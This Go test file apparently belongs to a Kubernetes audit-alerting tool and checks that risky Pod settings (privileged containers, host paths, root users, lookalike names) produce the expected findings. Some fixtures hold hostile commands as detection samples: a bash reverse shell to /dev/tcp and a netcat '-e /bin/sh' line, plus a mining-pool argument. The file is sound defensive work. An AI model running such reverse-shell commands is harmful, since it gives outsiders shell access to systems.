package enrich

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/spawnwatch/spawnwatch/processor/alert"
)

// codes are those of the findings.
func codes(a *alert.Alert) []string {
	var all []string
	for i := range a.Policy.Findings {
		all = append(all, a.Policy.Findings[i].Code)
	}
	slices.Sort(all)
	return all
}

// TestFindings adds one thing to a Pod that nothing is found about, and looks for exactly that finding.
func TestFindings(t *testing.T) {
	e := newEnricher(t, Options{})
	const clean = `{"containers":[{"name":"a","image":"nginx:1.27","resources":{"limits":{"cpu":"1","memory":"1Gi"}}}]}`
	plain := pod(`"web-1"`, clean)
	if got := codes(enriched(t, e, plain)); len(got) > 0 {
		t.Fatalf("nothing should be found about %s, got %v", plain, got)
	}
	found := map[string]bool{}
	for name, c := range map[string]struct{ old, new, want string }{
		"privileged":         {`"name":"a"`, `"name":"a","securityContext":{"privileged":true}`, "privileged"},
		"privileged, init":   {`{"containers"`, `{"initContainers":[{"name":"i","image":"a:1","resources":{"limits":{"cpu":"1","memory":"1"}},"securityContext":{"privileged":true}}],"containers"`, "privileged"},
		"capability":         {`"name":"a"`, `"name":"a","securityContext":{"capabilities":{"add":["CAP_SYS_ADMIN"]}}`, "capability"},
		"lesser capability":  {`"name":"a"`, `"name":"a","securityContext":{"capabilities":{"add":["NET_BIND_SERVICE"]}}`, ""},
		"root":               {`"name":"a"`, `"name":"a","securityContext":{"runAsUser":0}`, "root_user"},
		"root by the Pod":    {`{"containers"`, `{"securityContext":{"runAsUser":0},"containers"`, "root_user"},
		"latest":             {`nginx:1.27`, `nginx:latest`, "latest_tag"},
		"no tag":             {`nginx:1.27`, `nginx`, "latest_tag"},
		"digest":             {`nginx:1.27`, `nginx@sha256:` + strings.Repeat("a", 64), ""},
		"no limit":           {`,"memory":"1Gi"`, ``, "no_limits"},
		"miner":              {`nginx:1.27`, `metal3d/xmrig:6`, "miner"},
		"miner's pool":       {`"name":"a"`, `"name":"a","args":["-o","stratum+tcp://pool:3333"]`, "miner"},
		"no miner":           {`nginx:1.27`, `acme/determiner:1`, ""},
		"reverse shell":      {`"name":"a"`, `"name":"a","command":["bash","-c","bash -i >& /dev/tcp/1.2.3.4/1 0>&1"]`, "reverse_shell"},
		"netcat":             {`"name":"a"`, `"name":"a","command":["nc","1.2.3.4","4444","-e","/bin/sh"]`, "reverse_shell"},
		"no shell":           {`"name":"a"`, `"name":"a","command":["sync","--every","1s"]`, ""},
		"host network":       {`{"containers"`, `{"hostNetwork":true,"containers"`, "host_network"},
		"host processes":     {`{"containers"`, `{"hostPID":true,"containers"`, "host_pid"},
		"host IPC":           {`{"containers"`, `{"hostIPC":true,"containers"`, "host_ipc"},
		"host port":          {`"name":"a"`, `"name":"a","ports":[{"containerPort":1,"hostPort":80}]`, "host_port"},
		"node":               {`{"containers"`, `{"nodeName":"n","containers"`, "node_pinned"},
		"host path":          {`{"containers"`, `{"volumes":[{"name":"v","hostPath":{"path":"/data"}}],"containers"`, "host_path"},
		"host path /etc":     {`{"containers"`, `{"volumes":[{"name":"v","hostPath":{"path":"/data/../etc//ssh"}}],"containers"`, "host_path_sensitive"},
		"runtime socket":     {`{"containers"`, `{"volumes":[{"name":"v","hostPath":{"path":"/x/containerd.sock"}}],"containers"`, "host_path_sensitive"},
		"whole node":         {`{"containers"`, `{"volumes":[{"name":"v","hostPath":{"path":"/"}}],"containers"`, "host_path_sensitive"},
		"anonymous":          {`"username":"alice"`, `"username":"system:anonymous"`, "anonymous_actor"},
		"impersonation":      {`"sourceIPs"`, `"impersonatedUser":{"username":"boss"},"sourceIPs"`, "impersonation"},
		"masters":            {`"devs"`, `"system:masters"`, "masters_group"},
		"public":             {`10.1.2.3`, `8.8.8.8`, "public_source"},
		"public, spoofed":    {`"10.1.2.3"`, `"8.8.8.8","10.1.2.3"`, ""},
		"system namespace":   {`"namespace":"shop"`, `"namespace":"kube-system"`, "system_namespace"},
		"like kube-proxy":    {`web-1`, `kube-proxy-x7`, "lookalike_name"},
		"one slip":           {`web-1`, `kube-proxi-x7`, "lookalike_name"},
		"a digit":            {`web-1`, `c0redns`, "lookalike_name"},
		"swapped":            {`web-1`, `cilimu-x`, "lookalike_name"},
		"without the dash":   {`web-1`, `kubeproxy`, "lookalike_name"},
		"no likeness":        {`web-1`, `kube-prometheus`, ""},
		"refused":            {`"code":201`, `"code":403`, "refused"},
		"timeout":            {`"code":201`, `"code":504`, "outcome_unknown"},
		"truncated":          {`"annotations":{"auth`, `"annotations":{"audit.k8s.io/truncated":"true","auth`, "truncated"},
		"approved by ticket": {`"note":"x"`, `"spawnwatch.io/change-ticket":"C"`, "approved"},
	} {
		event := strings.ReplaceAll(plain, c.old, c.new)
		if event == plain {
			t.Fatalf("%s changes nothing", name)
		}
		want := []string{c.want}
		if c.want == "" {
			want = nil
		}
		if got := codes(enriched(t, e, event)); !slices.Equal(got, want) {
			t.Errorf("%s: got %v, want %v", name, got, want)
		}
		found[c.want] = true
	}
	// What needs a configuration, or more than one change.
	snapshot, err := ParseSnapshot([]byte(snapshotText))
	if err != nil {
		t.Fatal(err)
	}
	configured := newEnricher(t, Options{Allow: []Allow{{Name: "n", Images: []string{"nginx:*"}}}})
	configured.SetSnapshot(snapshot)
	for want, event := range map[string]string{
		"intended":         plain,
		"deviates":         strings.ReplaceAll(plain, "nginx", "evil"),
		"dangerous_rights": strings.Replace(plain, `{"containers"`, `{"serviceAccountName":"loud","containers"`, 1),
		"controlled": strings.NewReplacer(`"username":"alice"`, `"username":"system:serviceaccount:kube-system:replicaset-controller"`,
			`"labels":{"app":"web"}`, `"ownerReferences":[{"kind":"ReplicaSet","name":"r","controller":true}]`).Replace(plain),
	} {
		if got := codes(enriched(t, configured, event)); !slices.Contains(got, want) {
			t.Errorf("got %v, want %s", got, want)
		}
		found[want] = true
	}
	for _, w := range alert.Weights() {
		if !found[w.Code] {
			t.Errorf("no case finds %s", w.Code)
		}
	}
}

// TestPatchClaimsNothing: what a patch leaves out is not missing.
func TestPatchClaimsNothing(t *testing.T) {
	event := strings.NewReplacer(`"verb":"create"`, `"verb":"patch"`, `"code":201`, `"code":200`, `"responseObject":{"kind":"Pod","apiVersion":"v1",`, `"requestObject":{`).
		Replace(pod(`"x"`, `{"containers":[{"name":"a","image":"nginx:1.27"}]}`))
	a := enriched(t, newEnricher(t, Options{}), event)
	if got := codes(a); len(got) > 0 || a.Workload.ServiceAccount != "" || a.Outcome != alert.Changed {
		t.Errorf("%s: findings %v, service account %q", a.Outcome, got, a.Workload.ServiceAccount)
	}
}

func TestImages(t *testing.T) {
	digest := "sha256:" + strings.Repeat("0a", 32)
	for raw, want := range map[string]alert.Image{
		"nginx":                               {Registry: "docker.io", Repository: "library/nginx"},
		"acme/x:1":                            {Registry: "docker.io", Repository: "acme/x", Tag: "1"},
		"a.io:5000/x":                         {Registry: "a.io:5000", Repository: "x"},
		"localhost/x":                         {Registry: "localhost", Repository: "x"},
		"registry.k8s.io/pause:3.9@" + digest: {Registry: "registry.k8s.io", Repository: "pause", Tag: "3.9", Digest: digest},
		"Not A Reference":                     {}, "": {}, "x@sha256:12": {}, "x/UPPER": {},
	} {
		image := alert.Image{Raw: raw}
		parseImage(&image)
		want.Raw = raw
		if diff := cmp.Diff(want, image); diff != "" {
			t.Errorf("%q: %s", raw, diff)
		}
	}
}

func TestSourceIPs(t *testing.T) {
	networks, err := ParseNetworks(map[string][]string{"ten": {"10.0.0.0/8"}, "office": {"10.1.0.0/16", "2001:db8::/32"}, "b": {"10.1.0.0/16"}})
	if err != nil {
		t.Fatal(err)
	}
	e := newEnricher(t, Options{Networks: networks})
	for ip, want := range map[string]string{
		"10.1.2.3": "private b", "10.2.2.3": "private ten", "::ffff:10.1.2.3": "private b", "8.8.8.8": "public ", "2001:db8::1": "public office", "127.0.0.1": "loopback ",
		"::1": "loopback ", "169.254.169.254": "link_local ", "fe80::1%eth0": "link_local ", "100.64.1.1": "private ", "fd00::1": "private ", "0.0.0.0": "invalid ",
		"224.0.0.1": "invalid ", "255.255.255.255": "invalid ", "": "invalid ", "10.1.2.3:443": "invalid ", "x": "invalid ",
	} {
		if s := e.sourceIP(ip, false); string(s.Class)+" "+s.Network != want {
			t.Errorf("%s: %s %s, want %s", ip, s.Class, s.Network, want)
		}
	}
	for range 20 { // maps come in any order
		again, err := ParseNetworks(map[string][]string{"office": {"10.1.0.0/16", "2001:db8::/32"}, "b": {"10.1.0.0/16"}, "ten": {"10.0.0.0/8"}})
		if err != nil || fmt.Sprint(again) != fmt.Sprint(networks) {
			t.Fatalf("%v, %v, want %v", again, err, networks)
		}
	}
	_, err = ParseNetworks(map[string][]string{"a": {"10.0.0.0"}, "b": {"x/8", "::ffff:10.0.0.0/104"}})
	if err == nil || strings.Count(err.Error(), "expected a prefix") != 3 {
		t.Errorf("got %v", err)
	}
}

func TestOwners(t *testing.T) {
	e := newEnricher(t, Options{
		Teams:     map[string]Team{"shop": {Team: "checkout", Chat: "#checkout"}, "shop-*": {Team: "shops"}, "shop-eu-*": {Team: "europe"}, "*": {Contact: "ops"}},
		OwnerKeys: []OwnerKey{{Key: "example.com/squad", Field: "team"}, {Key: "example.com/docs", Field: "runbook"}},
	})
	plain := pod(`"x"`, `{"containers":[{"name":"a","image":"a:1"}]}`)
	for name, c := range map[string]struct {
		old, new string
		want     alert.Owners
	}{
		"team file": {`"app":"web"`, `"x":"y"`, alert.Owners{Team: "checkout", Chat: "#checkout", Source: "team file"}},
		"label and file": {`"app":"web"`, `"team":"payments"`, alert.Owners{
			Team: "payments", Chat: "#checkout", Source: "label team, team file", Labels: []alert.Label{{Key: "team", Value: "payments"}},
		}},
		"own keys first": {`"app":"web"`, `"team":"payments","example.com/squad":"blue"`, alert.Owners{
			Team: "blue", Chat: "#checkout", Source: "label example.com/squad, team file",
			Labels: []alert.Label{{Key: "example.com/squad", Value: "blue"}, {Key: "team", Value: "payments"}},
		}},
		"longest prefix": {`"namespace":"shop"`, `"namespace":"shop-eu-1"`, alert.Owners{
			Team: "europe", Application: "web", Source: "label app, team file", Labels: []alert.Label{{Key: "app", Value: "web"}},
		}},
		"any": {`"namespace":"shop"`, `"namespace":"x"`, alert.Owners{Contact: "ops", Application: "web", Source: "label app, team file", Labels: []alert.Label{{Key: "app", Value: "web"}}}},
		"Argo CD": {`"note":"x"`, `"argocd.argoproj.io/tracking-id":"web:apps/Deployment:shop/web"`, alert.Owners{
			Team: "checkout", Chat: "#checkout", Application: "web", ManagedBy: "Argo CD", Source: "label app, annotation argocd.argoproj.io/tracking-id, team file",
			Labels: []alert.Label{{Key: "app", Value: "web"}, {Key: "argocd.argoproj.io/tracking-id", Value: "web:apps/Deployment:shop/web"}},
		}},
		"Helm": {`"note":"x"`, `"meta.helm.sh/release-name":"rel"`, alert.Owners{
			Team: "checkout", Chat: "#checkout", Application: "rel", ManagedBy: "Helm", Source: "annotation meta.helm.sh/release-name, team file",
			Labels: []alert.Label{{Key: "meta.helm.sh/release-name", Value: "rel"}, {Key: "app", Value: "web"}},
		}},
	} {
		a := enriched(t, e, strings.ReplaceAll(plain, c.old, c.new))
		if diff := cmp.Diff(c.want, a.Owners); diff != "" {
			t.Errorf("%s: -want +got\n%s", name, diff)
		}
	}
}

func TestAttack(t *testing.T) {
	e := newEnricher(t, Options{})
	for tags, want := range map[string]string{
		"attack.execution attack.t1610":                                                      "T1610 execution TA0002 Deploy Container",
		"attack.t1611 attack.execution attack.privilege-escalation attack.t1610":             "T1611 privilege-escalation TA0004 Escape to Host; T1610 execution TA0002 Deploy Container",
		"attack.stealth attack.t1562.008":                                                    "T1562.008 defense-evasion TA0005 Disable or Modify Cloud Logs;  stealth  ",
		"attack.defense_impairment attack.t1562.008":                                         "T1562.008 defense-impairment  Disable or Modify Cloud Logs",
		"attack.T1234.567 attack.impact":                                                     "T1234.567 impact TA0040 ",
		"attack.persistence":                                                                 " persistence TA0003 ",
		"attack.t16 attack.t1610x attack.tactic cve.2026.1 t1610 detection.emerging-threats": "",
		"": "",
	} {
		a := &alert.Alert{Rules: []alert.Rule{{Tags: strings.Fields(tags)}, {Tags: strings.Fields(tags)}}}
		if err := e.attack(nil, a); err != nil {
			t.Fatal(err)
		}
		var got []string
		for _, x := range a.Attack {
			got = append(got, strings.Join([]string{x.Technique, x.Tactic, x.TacticID, x.Name}, " "))
		}
		if strings.Join(got, "; ") != want {
			t.Errorf("%s:\ngot  %q\nwant %q", tags, strings.Join(got, "; "), want)
		}
	}
	for id, x := range techniqueTable() {
		if !isTechnique(strings.ToLower(id)) || x.name == "" || len(x.tactics) == 0 {
			t.Errorf("%s: %+v", id, x)
		}
		for _, tactic := range x.tactics {
			if _, ok := tacticTable()[tactic]; !ok {
				t.Errorf("%s: %s is no tactic", id, tactic)
			}
		}
	}
}

func TestAdmission(t *testing.T) {
	e := newEnricher(t, Options{})
	for key, c := range map[string]struct{ value, want string }{
		"pod-security.kubernetes.io/audit-violations":                     {"would violate", "violation would violate"},
		"validation.policy.admission.k8s.io/validation_failure":           {"[]", "violation []"},
		"pod-security.kubernetes.io/exempt":                               {"namespace", "exempt namespace"},
		"pod-security.kubernetes.io/enforce-policy":                       {"baseline:latest", "info baseline:latest"},
		"failed-open.validating.webhook.admission.k8s.io/round_0_index_1": {"hook", "failure hook"},
		"mutation.webhook.admission.k8s.io/round_0_index_0":               {`{\"mutated\":true}`, `mutation {"mutated":true}`},
		"patch.webhook.admission.k8s.io/round_0_index_0":                  {`{\"webhook\":\"w\",\"patch\":[{\"op\":\"add\",\"path\":\"/spec/x\",\"value\":\"s\"}]}`, "mutation w: add /spec/x"},
		"patch.webhook.admission.k8s.io/round_0_index_2":                  {`{`, "mutation a patch that cannot be read"},
		"authorization.k8s.io/decision":                                   {"allow", ""},
		"k8s.io/deprecated":                                               {"true", ""},
	} {
		event := strings.Replace(pod(`"x"`, `{"containers":[{"name":"a"}]}`), `"annotations":{"authorization.k8s.io/decision":"allow",`, `"annotations":{"`+key+`":"`+c.value+`",`, 1)
		got := ""
		for _, n := range enriched(t, e, event).Policy.Admission {
			got += string(n.Type) + " " + n.Detail
			if n.Source != key {
				t.Errorf("source %s, want %s", n.Source, key)
			}
		}
		if got != c.want {
			t.Errorf("%s: got %q, want %q", key, got, c.want)
		}
	}
}
